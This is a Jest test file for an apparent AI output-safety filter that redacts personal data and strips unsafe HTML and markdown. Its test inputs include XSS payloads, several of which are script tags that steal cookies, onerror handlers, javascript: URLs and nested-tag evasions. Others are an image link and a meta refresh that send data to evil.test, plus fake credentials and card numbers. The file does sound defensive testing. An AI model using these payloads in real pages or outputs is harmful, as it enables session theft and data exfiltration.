import { createDataDetectors } from '../detectors/data';
import { createOutputDetectors } from '../detectors/output';
import { analyzeText } from '../normalize/analyze-text';
import { SafetyError } from '../normalize/safety-error';
import type { AnalysisContext, Finding } from '../types';
import { applyModifications } from './apply-modifications';

const detectors = [...createDataDetectors(), ...createOutputDetectors()];
const context: AnalysisContext = { direction: 'output' };
const detectAll = (text: string) => detectors.flatMap((d) => d.detect(analyzeText(text), context));
const modify = (text: string) => applyModifications(text, detectAll(text));

const redaction = (start: number, end: number, label = 'EMAIL', score = 0.9): Finding => ({
  detector: `pii.${label.toLowerCase()}`,
  category: 'pii',
  score,
  span: { start, end },
  reason: 'test',
  redaction: label,
});

describe('applyModifications: redaction', () => {
  it('replaces each redaction span with its label and reports what it did', () => {
    const text = 'Mail ana@acme.io or call +44 20 7946 0958.';
    const result = modify(text);
    expect(result.text).toBe('Mail [REDACTED:EMAIL] or call [REDACTED:PHONE].');
    expect(result.applied).toEqual([
      { detector: 'pii.email', span: { start: 5, end: 16 }, replacement: '[REDACTED:EMAIL]' },
      { detector: 'pii.phone', span: { start: 25, end: 41 }, replacement: '[REDACTED:PHONE]' },
    ]);
  });

  it('merges overlapping spans into one replacement labelled by the most certain finding', () => {
    const result = applyModifications('0123456789', [
      redaction(1, 5, 'PHONE', 0.6),
      redaction(3, 8, 'SSN', 0.9),
    ]);
    expect(result.text).toBe('0[REDACTED:SSN]89');
    expect(result.applied).toEqual([
      { detector: 'pii.phone+pii.ssn', span: { start: 1, end: 8 }, replacement: '[REDACTED:SSN]' },
    ]);
  });

  it('lets a redaction win over sanitising where the two overlap', () => {
    const text = '<img src="https://evil.test/p?d=4929123456789015" onerror=alert(1)>';
    const findings: Finding[] = [
      { ...redaction(32, 48, 'PAYMENT_CARD') },
      {
        detector: 'markup.unsafe',
        category: 'unsafe_markup',
        score: 0.8,
        span: { start: 10, end: 48 },
        reason: 't',
        sanitize: true,
      },
    ];
    expect(applyModifications(text, findings).text).toBe(
      '<img src="[REDACTED:PAYMENT_CARD]" onerror=alert(1)>',
    );
  });

  it('never cuts a surrogate pair: spans inside an emoji are widened to the whole code point', () => {
    const text = 'a😀b';
    expect(applyModifications(text, [redaction(2, 3)]).text).toBe('a[REDACTED:EMAIL]b');
    expect(applyModifications(text, [redaction(1, 2)]).text).toBe('a[REDACTED:EMAIL]b');
  });

  it('keeps redactions exact when zero-width characters, look-alikes and emoji precede the data', () => {
    const text = '🔒 Ρlеаsе\u200B mail ａｎａ@acme.io now';
    expect(modify(text).text).toBe('🔒 Ρlеаsе\u200B mail [REDACTED:EMAIL] now');
  });

  it('ignores findings without a span or without anything to apply, and leaves empty spans alone', () => {
    const findings: Finding[] = [
      { detector: 'injection', category: 'prompt_injection', score: 1, reason: 'no span' },
      {
        detector: 'leak',
        category: 'system_prompt_leak',
        score: 1,
        span: { start: 0, end: 3 },
        reason: 'no action',
      },
      redaction(2, 2),
    ];
    expect(applyModifications('abcdef', findings)).toEqual({ text: 'abcdef', applied: [] });
  });

  it('refuses spans outside the text with a SafetyError instead of letting data through', () => {
    expect(() => applyModifications('short', [redaction(2, 40)])).toThrow(SafetyError);
    expect(() => applyModifications('short', [redaction(3, 1)])).toThrow(/outside the text/);
    expect(() => applyModifications('short', [redaction(0.5, 2)])).toThrow(SafetyError);
  });
});

describe('applyModifications: markup', () => {
  it.each([
    [
      'removes script elements with their content',
      'Hi <script>steal(document.cookie)</script>there',
      'Hi there',
    ],
    ['removes iframes, objects and embeds', 'a<iframe src=//x></iframe>b<embed src=y>c', 'abc'],
    [
      'strips event-handler attributes',
      '<img src="cat.png" onerror="alert(1)" alt="cat">',
      '<img src="cat.png"  alt="cat">',
    ],
    [
      'replaces script URLs with #',
      '<a href="javascript:alert(1)">x</a> [y](javascript:void(0))',
      '<a href="#">x</a> [y](#)',
    ],
    [
      'replaces an exfiltrating image URL with #',
      `![](https://evil.test/p?k=${'QUJDREVGR0hJSktMTU5PUFFSU1RV'})`,
      '![](#)',
    ],
    ['removes a meta refresh', '<meta http-equiv="refresh" content="0;url=//evil.test">Hi', 'Hi'],
    [
      'escapes a tag opener left dangling by a removal',
      '<<script>x</script>img src=1 onerror=alert(2)>',
      '&#60;img src=1 onerror=alert(2)>',
    ],
  ])('%s', (_label, text, expected) => {
    expect(modify(text).text).toBe(expected);
  });

  it('escapes a flagged fragment it cannot classify', () => {
    const finding: Finding = {
      detector: 'markup.other',
      category: 'unsafe_markup',
      score: 0.5,
      span: { start: 0, end: 12 },
      reason: 'ambiguous',
      sanitize: true,
    };
    expect(applyModifications('a "b" <c d> e', [finding]).text).toBe('a &#34;b&#34; &#60;c d&#62; e');
  });
});

describe('applyModifications: idempotence', () => {
  const samples = [
    'Card 4929 1234 5678 9015, mail ana@acme.io, key AKIAQYLPMN5HGR4WZ3TB, ip 8.8.8.8',
    'Run <script>a()</script><img src=x onerror=b()> and [c](javascript:d()) then <a href="&#106;avascript:e()">f</a>',
    'DATABASE_URL=postgres://app:Xk9#mP2vQ7z@db.prod:5432/app and password: "S3cure!Pass" and SSN 536-22-1234',
    '<scr<script>x</script>ipt>alert(1)</script> and <svg onload=alert(1)><iframe srcdoc="<script>1</script>">',
    '😀 \u200B ａｎａ@acme.io 😀 +1 (415) 555-2671 😀',
  ];

  it.each(samples.map((sample) => [sample.slice(0, 30), sample]))(
    'leaves nothing to modify after one pass: %j',
    (_label, sample) => {
      const once = modify(sample).text;
      expect(once).not.toBe(sample);
      expect(detectAll(once).filter((f) => f.redaction || f.sanitize)).toEqual([]);
      expect(modify(once).text).toBe(once);
    },
  );
});
